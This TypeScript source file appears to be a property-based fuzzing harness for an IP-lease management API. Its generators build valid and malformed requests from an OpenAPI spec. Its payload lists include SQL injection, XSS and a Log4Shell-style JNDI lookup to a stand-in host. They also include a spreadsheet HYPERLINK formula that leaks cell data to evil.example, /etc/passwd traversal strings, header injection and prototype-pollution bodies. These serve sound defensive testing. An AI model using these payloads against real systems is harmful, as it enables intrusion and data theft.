import fc from 'fast-check';
import type { OpenApiDocument, Operation, ParameterObject, SchemaObject } from './openapi-spec';
import { resolveSchema, resourceOfParam } from './openapi-spec';

/**
 * fast-check generators driven by the OpenAPI document: values valid per a schema (with a few
 * hints by field name so that "valid" also means "meaningful", e.g. a prefix inside a seeded
 * lease), values that break it, and whole requests (path, query, headers, body) for an operation.
 */

/** Real entities created through the API before fuzzing, by resource path segment (lessors, leases, …). */
export interface FuzzWorld {
  ids: Record<string, string[]>;
  /** Prefixes of seeded leases: allocations inside them are valid. */
  leasePrefixes: string[];
}

export const INJECTION_STRINGS = [
  "'; DROP TABLE leases;--",
  "' OR '1'='1",
  '1; SELECT pg_sleep(10)--',
  "Robert'); DELETE FROM lessors;--",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '../../../../etc/passwd',
  '%00',
  '\\',
  '\\x00',
];

const NAN_LIKE = [
  'NaN',
  'nan',
  'Infinity',
  '-Infinity',
  'undefined',
  'null',
  'true',
  '-0',
  '0x1A',
  '1e309',
  '1e-400',
  '0.1.2',
  '',
  ' ',
  '1_000',
  '٣',
  '+1',
  '00026',
  '26 ',
  ' 26',
];

const LARGE_NUMBERS = [
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER - 2,
  1e308,
  -1e308,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  2 ** 31,
  2 ** 32,
  2 ** 63,
  -(2 ** 31) - 1,
  4294967296,
  -1,
  0.5,
  -0,
];

export const UNICODE_STRINGS = [
  '\u0000',
  'a\u0000b',
  '\u0007\u0008\u001b[31m',
  '\r\nSet-Cookie: x=1',
  '\u202Eevil\u202C',
  '\uFEFFbom',
  '\uD800',
  '\uDFFFx\uD800',
  'ｆｕｌｌｗｉｄｔｈ',
  'Ω≈ç√∫',
  '👨‍👩‍👧‍👦🏳️‍🌈',
  'e\u0301\u0301\u0301',
  '\u00A0',
  '\u2028\u2029',
  'Z̷̧̛̺͓a̸l̶g̵o̴',
];

const TRAVERSAL = [
  '..',
  '../..',
  '../../../etc/passwd',
  '..%2F..%2Fhealth',
  '%2e%2e%2f%2e%2e',
  '....//....//',
  '.%00.',
  '%00',
  '%',
  '%zz',
  '%E0%A4%A',
  '?x=1',
  '#frag',
  ';',
  '\\..\\..',
];

/** Node refuses to send control characters other than tab in a header value. */
const sendableInHeader = (s: string) => [...s].every((c) => c === '\t' || c.charCodeAt(0) >= 0x20);

const letters = fc.stringMatching(/^[a-z]{1,12}$/);

/** A canonical public IPv4 prefix (not special-purpose space). */
export const publicPrefix = (minLen = 16, maxLen = 32) =>
  fc
    .tuple(
      fc.integer({ min: 1, max: 223 }),
      fc.integer({ min: 0, max: 255 }),
      fc.integer({ min: 0, max: 255 }),
      fc.integer({ min: 0, max: 255 }),
      fc.integer({ min: minLen, max: maxLen }),
    )
    .map(([a, b, c, d, len]) => {
      const first = [10, 100, 127, 169, 172, 192, 198, 203].includes(a) ? a + 1 : a;
      const n = (((first << 24) >>> 0) + (b << 16) + (c << 8) + d) >>> 0;
      const mask = len === 0 ? 0 : (0xffffffff << (32 - len)) >>> 0;
      const net = (n & mask) >>> 0;
      return `${net >>> 24}.${(net >>> 16) & 255}.${(net >>> 8) & 255}.${net & 255}/${len}`;
    });

/** A canonical sub-prefix of a seeded lease prefix (or the prefix itself). */
export function subPrefix(prefixes: string[]): fc.Arbitrary<string> {
  if (!prefixes.length) return publicPrefix();
  return fc.tuple(fc.constantFrom(...prefixes), fc.nat(), fc.nat({ max: 8 })).map(([prefix, pick, extra]) => {
    const [addr, lenText] = prefix.split('/');
    const len = Number(lenText);
    const newLen = Math.min(32, len + extra);
    const base = addr.split('.').reduce((acc, o) => acc * 256 + Number(o), 0);
    const slots = 2 ** (newLen - len);
    const net = base + (pick % slots) * 2 ** (32 - newLen);
    return `${Math.floor(net / 2 ** 24) % 256}.${Math.floor(net / 2 ** 16) % 256}.${Math.floor(net / 256) % 256}.${net % 256}/${newLen}`;
  });
}

const isoDate = (minYear = 2020, maxYear = 2030) =>
  fc
    .tuple(fc.integer({ min: minYear, max: maxYear }), fc.integer({ min: 1, max: 12 }), fc.integer({ min: 1, max: 28 }))
    .map(([y, m, d]) => `${y}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}`);
const isoMonth = fc
  .tuple(fc.integer({ min: 2020, max: 2030 }), fc.integer({ min: 1, max: 12 }))
  .map(([y, m]) => `${y}-${String(m).padStart(2, '0')}`);
const isoDateTime = fc
  .date({ min: new Date('2020-01-01T00:00:00Z'), max: new Date('2035-01-01T00:00:00Z'), noInvalidDate: true })
  .map((d) => d.toISOString());

/** Which seeded resource an `...Id` field or parameter refers to. */
const ID_FIELDS: Record<string, string> = {
  lessorId: 'lessors',
  leaseId: 'leases',
  regionId: 'regions',
  providerId: 'providers',
  allocationId: 'allocations',
  actorKeyId: 'api-keys',
  keyId: 'api-keys',
};

function seededId(world: FuzzWorld, resource: string | undefined): fc.Arbitrary<string> {
  const pool = resource && world.ids[resource]?.length ? world.ids[resource] : Object.values(world.ids).flat();
  return pool.length ? fc.constantFrom(...pool) : fc.uuid();
}

/**
 * Hints by field name: what a *meaningful* valid value looks like where the schema alone
 * (type string) would almost never produce one. Everything else comes from the schema.
 */
function hint(name: string | undefined, world: FuzzWorld): fc.Arbitrary<unknown> | undefined {
  if (!name) return undefined;
  if (ID_FIELDS[name])
    return fc.oneof({ arbitrary: seededId(world, ID_FIELDS[name]), weight: 4 }, { arbitrary: fc.uuid(), weight: 1 });
  if (name === 'entityId') return fc.oneof(seededId(world, undefined), fc.uuid());
  switch (name) {
    case 'prefix':
    case 'within':
      return fc.oneof(subPrefix(world.leasePrefixes), publicPrefix(8, 32));
    case 'contains':
    case 'ip':
      return fc.oneof(
        subPrefix(world.leasePrefixes),
        subPrefix(world.leasePrefixes).map((p) => p.split('/')[0]),
        publicPrefix(8, 32),
        fc.ipV4(),
      );
    case 'prefixLength':
      return fc.integer({ min: 20, max: 32 });
    case 'currency':
      return fc.constantFrom('USD', 'EUR', 'GBP', 'CHF');
    case 'pricePerIpMonthly':
      return fc
        .tuple(fc.integer({ min: 0, max: 99 }), fc.integer({ min: 0, max: 9999 }))
        .map(([i, f]) => `${i}.${String(f).padStart(4, '0')}`);
    case 'countryCode':
      return fc.constantFrom('IE', 'DE', 'US', 'GB', 'NL', 'JP');
    case 'subdivisionCode':
      return fc.constantFrom('IE-D', 'GB-ENG', 'DE-BE', 'US-CA', null);
    case 'contactEmail':
      return fc.oneof(fc.emailAddress(), fc.constant(null));
    case 'orgHandle':
      return fc.stringMatching(/^[A-Z0-9][A-Z0-9-]{0,20}$/);
    case 'city':
      return fc.oneof(fc.constantFrom('Dublin', 'Frankfurt am Main', 'São Paulo', 'Zürich'), fc.constant(null));
    case 'month':
    case 'from':
      return isoMonth;
    case 'minPrefixLength':
      return fc.integer({ min: 0, max: 24 });
    case 'maxPrefixLength':
      return fc.integer({ min: 24, max: 32 });
    case 'withinDays':
      return fc.integer({ min: 0, max: 3650 });
    case 'months':
      return fc.integer({ min: 1, max: 60 });
    case 'tag':
      return letters;
    case 'cursor':
      return fc.oneof(
        fc.constant(Buffer.from('s1').toString('base64url')),
        fc.constant(Buffer.from('s999999').toString('base64url')),
      );
    default:
      return undefined;
  }
}

/**
 * The type a property really has. `@ApiPropertyOptional({ nullable: true })` on a `string | null`
 * field makes @nestjs/swagger print `type: object` with a string example: trust the example there.
 */
function effectiveType(schema: SchemaObject): string | undefined {
  if (
    schema.type === 'object' &&
    !schema.properties &&
    schema.example !== undefined &&
    typeof schema.example !== 'object'
  )
    return typeof schema.example;
  if (schema.type === 'object' && !schema.properties && schema.maxLength !== undefined) return 'string';
  return schema.type ?? (schema.properties ? 'object' : schema.items ? 'array' : undefined);
}

/** A value valid per `schema` (meaningful where a hint applies). */
export function validValue(
  doc: OpenApiDocument,
  world: FuzzWorld,
  raw: SchemaObject | undefined,
  name?: string,
  depth = 0,
): fc.Arbitrary<unknown> {
  const schema = resolveSchema(doc, raw) ?? {};
  const hinted = hint(name, world);
  if (hinted) return hinted;
  if (schema.enum?.length) return fc.constantFrom(...schema.enum);
  const base = ((): fc.Arbitrary<unknown> => {
    switch (effectiveType(schema)) {
      case 'string': {
        switch (schema.format) {
          case 'uuid':
            return fc.oneof(seededId(world, undefined), fc.uuid());
          case 'date':
            return isoDate();
          case 'date-time':
            return isoDateTime;
          case 'email':
            return fc.emailAddress();
        }
        if (schema.pattern) {
          const maxLength = schema.maxLength ?? 64;
          // OpenAPI patterns are ECMA-262 with Unicode (\p{Cc}…), as ajv reads them.
          const pattern = new RegExp(schema.pattern, 'u');
          const fits = (s: string) => s.length <= maxLength && s.length >= (schema.minLength ?? 0);
          try {
            return fc.stringMatching(pattern).filter(fits);
          } catch {
            // fast-check cannot generate from lookaheads: the example, or plain text the pattern accepts.
            const plain = fc.string({ minLength: 1, maxLength: Math.min(maxLength, 40) });
            const gen = plain.filter((s) => fits(s) && pattern.test(s));
            return typeof schema.example === 'string' ? fc.oneof(fc.constant(schema.example), gen) : gen;
          }
        }
        const gen = fc
          .string({ minLength: Math.max(1, schema.minLength ?? 1), maxLength: Math.min(schema.maxLength ?? 40, 40) })
          .filter((s) => /\S/.test(s));
        return typeof schema.example === 'string' ? fc.oneof(fc.constant(schema.example), gen) : gen;
      }
      case 'number':
      case 'integer': {
        const min = schema.minimum ?? 0;
        const max = schema.maximum ?? Math.max(min, 1000);
        return fc.integer({ min: Math.ceil(min), max: Math.min(Math.floor(max), Number.MAX_SAFE_INTEGER) });
      }
      case 'boolean':
        return fc.boolean();
      case 'array':
        return fc.array(validValue(doc, world, schema.items, name === 'tags' ? 'tag' : undefined, depth + 1), {
          maxLength: 4,
        });
      case 'object': {
        if (!schema.properties || depth > 4) return fc.constant({});
        const props = Object.fromEntries(
          Object.entries(schema.properties).map(([k, v]) => [k, validValue(doc, world, v, k, depth + 1)]),
        );
        return fc.record(props, { requiredKeys: (schema.required ?? []).filter((k) => k in props) });
      }
      default:
        return schema.example !== undefined ? fc.constant(schema.example) : fc.string({ maxLength: 20 });
    }
  })();
  return schema.nullable ? fc.oneof({ arbitrary: base, weight: 5 }, { arbitrary: fc.constant(null), weight: 1 }) : base;
}

/** Nested `{"a":{"a":…}}` or `[[[…]]]` `depth` levels deep. */
export function deeplyNested(depth: number, kind: 'object' | 'array'): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = kind === 'object' ? { a: value } : [value];
  return value;
}

/** Anything of the wrong kind for a value of `schema`: types, sizes, encodings, injections. */
export function invalidValue(doc: OpenApiDocument, raw: SchemaObject | undefined): fc.Arbitrary<unknown> {
  const schema = resolveSchema(doc, raw) ?? {};
  const type = effectiveType(schema);
  const wrongType: fc.Arbitrary<unknown>[] = [
    fc.constant(null),
    fc.constant({}),
    fc.constant([]),
    fc.dictionary(letters, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }),
    fc.array(fc.jsonValue({ maxDepth: 1 }), { minLength: 1, maxLength: 3 }),
  ];
  if (type !== 'boolean') wrongType.push(fc.boolean());
  if (type !== 'number' && type !== 'integer')
    wrongType.push(
      fc.integer(),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.constantFrom(...LARGE_NUMBERS),
    );
  if (type !== 'string') wrongType.push(fc.string({ maxLength: 10 }), fc.constantFrom(...NAN_LIKE));
  if (type === 'number' || type === 'integer') {
    // Numbers as strings, out of range, fractional, huge.
    const min = schema.minimum ?? 0;
    const max = schema.maximum ?? 1000;
    wrongType.push(
      fc.integer({ min: 0, max: 64 }).map(String),
      fc.constantFrom(min - 1, max + 1, min - 0.5, max + 0.5, min + 0.5, ...LARGE_NUMBERS),
      fc.constantFrom(...NAN_LIKE),
    );
  }
  if (type === 'string') {
    wrongType.push(
      fc.constantFrom(...INJECTION_STRINGS),
      fc.constantFrom(...UNICODE_STRINGS),
      fc.constantFrom(...NAN_LIKE),
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc.string({
        unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)),
        minLength: 1,
        maxLength: 10,
      }),
      fc
        .integer({ min: (schema.maxLength ?? 200) + 1, max: (schema.maxLength ?? 200) + 5000 })
        .map((n) => 'x'.repeat(n)),
      fc.constantFrom(' ', '', '\t\n', ' padded '),
      fc.constant('2026-02-30'),
      fc.constant('185.10.20.7/24'),
      fc.constant('010.0.0.0/8'),
      fc.constant('1.2.3.0/33'),
      fc.constant('::1/128'),
      fc.constant('10.0.0.0/8'),
      fc.constant('00000000-0000-0000-0000-00000000000g'),
    );
  }
  if (type === 'array') {
    wrongType.push(
      fc.array(fc.oneof(fc.integer(), fc.constant(null), fc.constant({}), fc.constant([])), {
        minLength: 1,
        maxLength: 5,
      }),
      fc.constant(Array.from({ length: 5000 }, (_, i) => `t${i}`)),
      fc.constant(['x'.repeat(10_000)]),
      fc.constantFrom(...INJECTION_STRINGS).map((s) => [s]),
    );
  }
  wrongType.push(fc.constantFrom(deeplyNested(64, 'object'), deeplyNested(64, 'array')));
  return fc.oneof(...wrongType);
}

export interface FuzzRequest {
  /** What kind of fuzz produced it, for failure messages. */
  kind: string;
  path: string;
  query: string;
  headers: Record<string, string>;
  /** A JS value sent as JSON, or `raw` text sent as-is with Content-Type application/json. */
  body?: unknown;
  raw?: string;
}

const uuidLike = fc.oneof(
  fc.uuid(),
  fc.uuid().map((u) => u.toUpperCase()),
  fc.constant('00000000-0000-0000-0000-000000000000'),
  fc.constant('ffffffff-ffff-ffff-ffff-ffffffffffff'),
);

/** Values for a path parameter: seeded ids, random UUIDs and everything that is not a UUID. */
export function pathValue(
  op: Operation,
  param: ParameterObject,
  world: FuzzWorld,
  validOnly = false,
): fc.Arbitrary<{ value: string; raw: boolean }> {
  const resource = resourceOfParam(op.path, param.name);
  const valid = fc
    .oneof(
      { arbitrary: seededId(world, resource), weight: 3 },
      { arbitrary: seededId(world, resource).map((id) => id.toUpperCase()), weight: 1 },
    )
    .map((value) => ({ value, raw: false }));
  if (validOnly) return valid;
  return fc.oneof(
    { arbitrary: valid, weight: 3 },
    { arbitrary: uuidLike.map((value) => ({ value, raw: false })), weight: 2 },
    { arbitrary: fc.string({ minLength: 1, maxLength: 40 }).map((value) => ({ value, raw: false })), weight: 1 },
    {
      arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }).map((value) => ({ value, raw: false })),
      weight: 1,
    },
    {
      arbitrary: fc.constantFrom(...INJECTION_STRINGS, ...TRAVERSAL).map((value) => ({ value, raw: false })),
      weight: 1,
    },
    { arbitrary: fc.constantFrom(...TRAVERSAL).map((value) => ({ value, raw: true })), weight: 1 },
    // Very long, but under Node's 16 KiB request-head limit: beyond it Node itself answers 431 before the app.
    { arbitrary: fc.integer({ min: 100, max: 6000 }).map((n) => ({ value: 'a'.repeat(n), raw: false })), weight: 1 },
    { arbitrary: fc.uuid().map((u) => ({ value: `${u}x`, raw: false })), weight: 1 },
    { arbitrary: fc.uuid().map((u) => ({ value: ` ${u}`, raw: false })), weight: 1 },
    { arbitrary: fc.uuid().map((u) => ({ value: u.replace(/-/g, ''), raw: false })), weight: 1 },
    { arbitrary: fc.uuid().map((u) => ({ value: `{${u}}`, raw: false })), weight: 1 },
    {
      arbitrary: fc
        .constantFrom('0', '-1', '1e309', 'NaN', 'null', 'undefined', 'true')
        .map((value) => ({ value, raw: false })),
      weight: 1,
    },
  );
}

/** Lone UTF-16 surrogates cannot be percent-encoded (encodeURIComponent throws): send U+FFFD instead. */
const wellFormed = (s: string): string =>
  s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');

function encodePairs(pairs: [string, string][]): string {
  return pairs.map(([k, v]) => `${encodeURIComponent(wellFormed(k))}=${encodeURIComponent(wellFormed(v))}`).join('&');
}

const asQueryString = (value: unknown): string => (typeof value === 'string' ? value : (JSON.stringify(value) ?? ''));

/** Query strings: documented parameters valid or not, unknown ones, repeated ones, broken encodings. */
export function queryString(
  doc: OpenApiDocument,
  op: Operation,
  world: FuzzWorld,
  validOnly = false,
): fc.Arbitrary<string> {
  const params = op.queryParams;
  const validPairs: fc.Arbitrary<[string, string][]> = params.length
    ? fc
        .tuple(
          ...params.map((p) => {
            const pair = validValue(doc, world, p.schema, p.name).map(
              (v) => [p.name, asQueryString(v)] as [string, string],
            );
            return p.required ? pair : fc.option(pair, { nil: undefined, freq: 2 });
          }),
        )
        .map((xs) => xs.filter((x): x is [string, string] => x !== undefined))
    : fc.constant([]);
  const valid = validPairs.map(encodePairs);
  if (validOnly) return valid;
  const invalidOne = params.length
    ? fc
        .tuple(validPairs, fc.constantFrom(...params), fc.nat())
        .chain(([pairs, p]) =>
          invalidValue(doc, p.schema).map((bad) =>
            encodePairs([...pairs.filter(([k]) => k !== p.name), [p.name, asQueryString(bad)]]),
          ),
        )
    : valid;
  const repeated = params.length
    ? fc
        .tuple(validPairs, fc.constantFrom(...params), fc.integer({ min: 2, max: 5 }))
        .chain(([pairs, p, n]) =>
          fc
            .array(validValue(doc, world, p.schema, p.name), { minLength: n, maxLength: n })
            .map((vs) => encodePairs([...pairs, ...vs.map((v) => [p.name, asQueryString(v)] as [string, string])])),
        )
    : fc.constant('a=1&a=2');
  const unknown = fc
    .tuple(
      validPairs,
      fc.oneof(
        letters,
        fc.constantFrom(
          '__proto__',
          'constructor',
          'prototype',
          'hasOwnProperty',
          'toString',
          'limit[]',
          'a[b]',
          'where',
          'order',
          'sort',
          'select',
        ),
      ),
      fc.string({ maxLength: 20 }),
    )
    .map(([pairs, k, v]) => encodePairs([...pairs, [k, v]]));
  const broken = fc.constantFrom(
    '%',
    '%%',
    '%zz=1',
    'limit=%E0%A4%A',
    '=',
    '&&&',
    '==1',
    'limit',
    'limit=',
    'limit=1&limit=',
    '%00=%00',
    'a'.repeat(3000) + '=1',
    `x=${'y'.repeat(6000)}`,
  );
  const hugeMany = fc.constant(Array.from({ length: 1200 }, (_, i) => `p${i}=${i}`).join('&'));
  return fc.oneof(
    { arbitrary: valid, weight: 3 },
    { arbitrary: invalidOne, weight: 4 },
    { arbitrary: repeated, weight: 2 },
    { arbitrary: unknown, weight: 2 },
    { arbitrary: broken, weight: 1 },
    { arbitrary: hugeMany, weight: 1 },
  );
}

/** Documented headers (If-Match, Idempotency-Key…): absent mostly, otherwise valid or garbage. */
export function headerValues(op: Operation, validOnly = false): fc.Arbitrary<Record<string, string>> {
  if (!op.headerParams.length) return fc.constant({});
  const perHeader = op.headerParams.map((h) => {
    const name = h.name.toLowerCase();
    const valid =
      name === 'if-match'
        ? fc.constantFrom('"1"', '"2"', '*', 'W/"1"')
        : name === 'idempotency-key'
          ? fc.uuid()
          : name === 'accept'
            ? fc.constantFrom(
                'application/json',
                'text/csv',
                '*/*',
                'text/csv;q=0.9, application/json',
                'application/problem+json',
              )
            : fc.string({
                unit: fc.integer({ min: 0x21, max: 0x7e }).map((c) => String.fromCharCode(c)),
                minLength: 1,
                maxLength: 20,
              });
    // Node refuses to send CR/LF/NUL in headers, so garbage is limited to what can travel.
    const garbage = fc.oneof(
      fc.constantFrom('', ' ', '"', '""', '"abc"', '"-1"', '"99999999999999999999"', '"1e3"', 'null', '\t', '"1", "2"'),
      fc.string({
        unit: fc.integer({ min: 0x20, max: 0xff }).map((c) => String.fromCharCode(c === 0x7f ? 0x7e : c)),
        maxLength: 40,
      }),
      fc.integer({ min: 256, max: 2000 }).map((n) => 'k'.repeat(n)),
      fc.constantFrom(...INJECTION_STRINGS.filter(sendableInHeader)),
    );
    const value = validOnly ? valid : fc.oneof({ arbitrary: valid, weight: 2 }, { arbitrary: garbage, weight: 2 });
    return fc.option(
      value.map((v) => [h.name, v] as [string, string]),
      { nil: undefined, freq: 2 },
    );
  });
  return fc
    .tuple(...perHeader)
    .map((pairs) => Object.fromEntries(pairs.filter((p): p is [string, string] => p !== undefined)));
}

/** Request bodies for an operation: valid per schema, and every way of breaking it. */
export function bodyValue(
  doc: OpenApiDocument,
  op: Operation,
  world: FuzzWorld,
): fc.Arbitrary<{ kind: string; body?: unknown; raw?: string }> {
  const schema = op.body ?? { type: 'object', properties: {} };
  const valid = validValue(doc, world, schema) as fc.Arbitrary<Record<string, unknown>>;
  const props = Object.entries(schema.properties ?? {});
  const required = schema.required ?? [];

  const variants: { arbitrary: fc.Arbitrary<{ kind: string; body?: unknown; raw?: string }>; weight: number }[] = [
    { arbitrary: valid.map((body) => ({ kind: 'valid body', body })), weight: 4 },
    {
      arbitrary: fc
        .tuple(
          fc.dictionary(
            fc.oneof(
              letters,
              fc.constantFrom(
                'id',
                'version',
                'createdAt',
                'updatedAt',
                'status',
                'seq',
                'key',
                'keyHash',
                'role',
                'deletedAt',
                'constructor',
                'prototype',
              ),
            ),
            fc.jsonValue({ maxDepth: 2 }),
            { minKeys: 1, maxKeys: 3 },
          ),
          valid,
        )
        .map(([extra, body]) => ({
          kind: 'extra fields',
          body: {
            ...body,
            ...Object.fromEntries(Object.entries(extra).filter(([k]) => !(k in (schema.properties ?? {})))),
            zzUnknownField: 1,
          },
        })),
      weight: 2,
    },
    {
      arbitrary: valid.map((body) => ({
        kind: '__proto__ pollution',
        raw: JSON.stringify(body)
          .replace(/^\{/, '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},')
          .replace(/,\}$/, '}'),
      })),
      weight: 1,
    },
    {
      arbitrary: fc.constantFrom(
        { kind: 'array body', body: [{}] },
        { kind: 'empty array body', body: [] },
        { kind: 'null body', raw: 'null' },
        { kind: 'string body', raw: '"a string"' },
        { kind: 'number body', raw: '42' },
        { kind: 'true body', raw: 'true' },
        { kind: 'empty object', body: {} },
        { kind: 'deep object (64)', body: deeplyNested(64, 'object') },
        { kind: 'deep object (5000)', raw: '{"a":'.repeat(5000) + '1' + '}'.repeat(5000) },
        { kind: 'deep array (100000)', raw: '['.repeat(100_000) + ']'.repeat(100_000) },
        { kind: 'deep object property (20000)', raw: `{"zz":${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}}` },
        { kind: 'duplicate keys', raw: '{"a":1,"a":2,"a":{"b":[]}}' },
        { kind: 'BOM-prefixed JSON', raw: '\uFEFF{}' },
        { kind: 'trailing garbage', raw: '{} {}' },
        { kind: 'huge integer literal', raw: `{"zz":${'9'.repeat(400)}}` },
      ),
      weight: 2,
    },
  ];
  if (props.length) {
    variants.push({
      arbitrary: fc
        .tuple(valid, fc.constantFrom(...props))
        .chain(([body, [name, propSchema]]) =>
          invalidValue(doc, propSchema).map((bad) => ({ kind: `invalid ${name}`, body: { ...body, [name]: bad } })),
        ),
      weight: 6,
    });
    variants.push({
      arbitrary: fc.tuple(valid, fc.constantFrom(...props)).map(([body, [name]]) => ({
        kind: `big number literal in ${name}`,
        raw: JSON.stringify({ ...body, [name]: '__BIG__' }).replace('"__BIG__"', '1e400'),
      })),
      weight: 1,
    });
    variants.push({
      arbitrary: fc
        .tuple(valid, fc.constantFrom(...props), fc.integer({ min: 100_000, max: 900_000 }))
        .map(([body, [name], n]) => ({ kind: `huge string in ${name}`, body: { ...body, [name]: 'x'.repeat(n) } })),
      weight: 1,
    });
  }
  if (required.length) {
    variants.push({
      arbitrary: fc.tuple(valid, fc.subarray(required, { minLength: 1 })).map(([body, drop]) => ({
        kind: `missing ${drop.join(',')}`,
        body: Object.fromEntries(Object.entries(body).filter(([k]) => !drop.includes(k))),
      })),
      weight: 2,
    });
  }
  return fc.oneof(...variants);
}

/** A whole request for `op`, valid in every part except (maybe) the one being fuzzed. */
export function fuzzRequest(
  doc: OpenApiDocument,
  op: Operation,
  world: FuzzWorld,
  focus: 'body' | 'query' | 'path' | 'headers',
): fc.Arbitrary<FuzzRequest> {
  const pathParts = op.pathParams.length
    ? fc
        .tuple(...op.pathParams.map((p) => pathValue(op, p, world, focus !== 'path').map((v) => [p.name, v] as const)))
        .map((entries) => {
          // Each value raw or encoded on its own: with two path parameters, a raw traversal in one
          // must not leave the other's random characters unescaped (Node refuses such a path).
          const values = Object.fromEntries(
            entries.map(([k, v]) => [k, v.raw ? v.value : encodeURIComponent(v.value)] as const),
          );
          return op.path.replace(/\{([^}]+)\}/g, (_, n: string) => values[n]);
        })
    : fc.constant(op.path);
  const query = queryString(doc, op, world, focus !== 'query');
  const headers = headerValues(op, focus !== 'headers');
  const hasBody = op.body !== undefined;
  const body = hasBody
    ? focus === 'body'
      ? bodyValue(doc, op, world)
      : (validValue(doc, world, op.body) as fc.Arbitrary<unknown>).map(
          (b) => ({ kind: 'valid body', body: b }) as { kind: string; body?: unknown; raw?: string },
        )
    : focus === 'body'
      ? fc.constantFrom<{ kind: string; body?: unknown; raw?: string }>(
          { kind: 'no body' },
          { kind: 'unexpected body', body: { zz: 1 } },
          { kind: 'unexpected raw body', raw: '{"broken' },
        )
      : fc.constant<{ kind: string; body?: unknown; raw?: string }>({ kind: 'no body' });
  return fc.record({ path: pathParts, query, headers, body }).map(({ path, query: q, headers: h, body: b }) => ({
    kind: `${focus}: ${b.kind}`,
    path,
    query: q,
    headers: h,
    body: b.body,
    raw: b.raw,
  }));
}
